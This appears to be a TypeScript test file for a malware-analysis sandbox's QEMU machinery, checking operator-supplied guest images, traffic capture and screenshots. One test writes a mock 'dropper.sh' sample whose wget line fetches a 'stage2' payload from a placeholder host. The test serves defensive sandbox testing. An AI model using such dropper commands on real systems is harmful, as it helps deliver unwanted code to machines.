import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pino } from 'pino';
import { configSchema } from '../../src/config/schema.js';
import { analysisRequest } from '../helpers/analysis-request.js';
import { isNestboxError } from '../../src/errors.js';
import { createTaskNetwork } from '../../src/machinery/host/network/index.js';
import { createQemuMachinery } from '../../src/machinery/qemu/index.js';
import { prepareQemuMachine } from '../../src/machinery/qemu/prepare.js';
import { parseQemuSettings } from '../../src/machinery/qemu/settings.js';
import { createOverlay } from '../../src/machinery/qemu/snapshot.js';
import { AnalysisPaths } from '../../src/storage/layout.js';

/**
 * An operator's own image, registered through a machine's settings (`disk`, `state`) and driven with
 * the agent only (`analyzer: none`), as a guest prepared for Cuckoo would be. No Windows guest can be
 * made here, so the operator's image is nestbox's own Linux one, copied out as an operator would
 * keep it: the disk, the saved state and the disk as it was at the save.
 */
const log = pino({ level: process.env.NESTBOX_TEST_LOG ?? 'silent' });
const RUN_DIR = '/run/nestbox/qemu-test';
const workDir = mkdtempSync(join(tmpdir(), 'nestbox-qemu-operator-'));
const operatorDir = join(workDir, 'operator');
let baseDisk: string;

describe('qemu machine with an operator image and the agent only', { timeout: 30 * 60_000 }, () => {
  before(async () => {
    const nestbox = await prepareQemuMachine('source', parseQemuSettings({ memory_mb: 256, run_dir: RUN_DIR, accel: 'tcg' }, 'source'), {
      log,
      internetInterface: '',
      createTaskNetwork,
    });
    baseDisk = nestbox.image!.baseDisk;
    mkdirSync(operatorDir);
    copyFileSync(nestbox.ready.stateFile, join(operatorDir, 'guest.state'));
    copyFileSync(nestbox.ready.disk, join(operatorDir, 'guest.state.disk.qcow2'));
    await createOverlay(join(operatorDir, 'guest.state.disk.qcow2'), join(operatorDir, 'guest.state.overlay.qcow2'));
  });

  after(() => rmSync(workDir, { recursive: true, force: true }));

  it('stores and starts the sample through the agent, on the task network, until the timeout', async () => {
    const settings = { memory_mb: 256, run_dir: RUN_DIR, accel: 'tcg', analyzer: 'none', disk: baseDisk, state: join(operatorDir, 'guest.state'), screenshot_interval: 0.5 };
    const machinery = createQemuMachinery(configSchema.parse({ machines: [{ name: 'operator1', kind: 'qemu', settings }] }), log);
    await machinery.prepare();
    const paths = new AnalysisPaths(join(workDir, 'task'));
    paths.create();
    mkdirSync(join(workDir, 'submitted'));
    const samplePath = join(workDir, 'submitted', 'dropper.sh');
    writeFileSync(samplePath, '#!/bin/sh\nwget -q -O /tmp/got http://operator-check.example.test/stage2\n');
    const session = await machinery.start(analysisRequest('operator1', { taskId: 9100, paths, samplePath, timeoutSeconds: 8, log }));
    try {
      const result = await session.run(new AbortController().signal);
      await session.stop();
      await session.collect();
      assert.equal(result.ended, 'timeout', 'without an analyzer the machine runs for the whole timeout');
      assert.deepEqual(result.warnings, []);
    } finally {
      await session.destroy();
      await machinery.close?.();
    }
    assert.ok(readFileSync(paths.pcap).includes(Buffer.from('operator-check')), 'the sample ran and its traffic is captured');
    assert.ok(readdirSync(paths.shots).some((name) => name.endsWith('.jpg')), 'screenshots are taken');
  });

  it('refuses an operator image whose disk does not exist, as a configuration error', async () => {
    const settings = { accel: 'tcg', disk: join(workDir, 'missing.qcow2'), state: join(operatorDir, 'x.state') };
    const machinery = createQemuMachinery(configSchema.parse({ machines: [{ name: 'broken', kind: 'qemu', settings }] }), log);
    await assert.rejects(machinery.prepare(), (error: unknown) => isNestboxError(error, 'invalid_config') && /missing\.qcow2 does not exist/.test(error.message));
  });
});
